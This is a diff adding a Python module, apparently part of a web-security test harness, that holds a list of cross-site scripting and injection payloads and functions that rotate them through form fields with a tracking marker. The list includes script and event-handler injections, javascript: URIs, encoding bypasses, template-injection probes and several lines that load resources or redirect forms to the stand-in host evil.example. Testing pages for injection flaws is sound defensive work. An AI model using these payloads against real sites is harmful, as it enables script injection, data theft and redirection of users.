@@ -1,0 +1,62 @@
+"""What is written into the fields: each would set window.__xss, call another host or tear the page apart."""
+
+RUN = "__xss=1"
+PAYLOADS = [
+    f"<script>{RUN}</script>",
+    f'"><script>{RUN}</script>',
+    f"'><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</option></select><script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT\t>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"]]><script>{RUN}</script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<img src=x onerror={RUN}>",
+    f'"><img src=x onerror={RUN}>',
+    "<img src=//evil.example/x.png>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f"<iframe src=javascript:parent.{RUN}>",
+    f'<object data="data:text/html,<script>{RUN}</script>">',
+    f'<a href="javascript:{RUN}">x</a>',
+    f"javascript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
+    f"' autofocus onfocus={RUN} x='",
+    f"` onfocus={RUN} autofocus",
+    f"\\';{RUN};//",
+    "<style>*{background:url(//evil.example/c)}</style>",
+    "</p><link rel=stylesheet href=//evil.example/c.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.example/>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example/><button>x",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;b&#62;",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"\xc0\xbcscript\xc0\xbe{RUN}",
+    f"\uff1cscript\uff1e{RUN}",
+    "<!--",
+    "{{7*7}}{% debug %}${7*7}<%=7*7%>",
+    "\u202e\u0645\u0631\u062d\u0628\u0627<b>\u2066",
+    f"<\u200bscript>{RUN}<\ufeff/script>",
+]
+
+
+def mark(number: int) -> str:
+    """By which the field of that number is found on a page, behind its payload."""
+    return f"~k{number:02}~"
+
+
+def text_for(number: int, turn: int, longest: int) -> str:
+    """What the field of that number says in that turn; in as many turns as there are payloads, each."""
+    fitting = [payload for payload in PAYLOADS if len(payload) + len(mark(number)) <= longest]
+    return fitting[(number + turn) % len(fitting)] + mark(number)
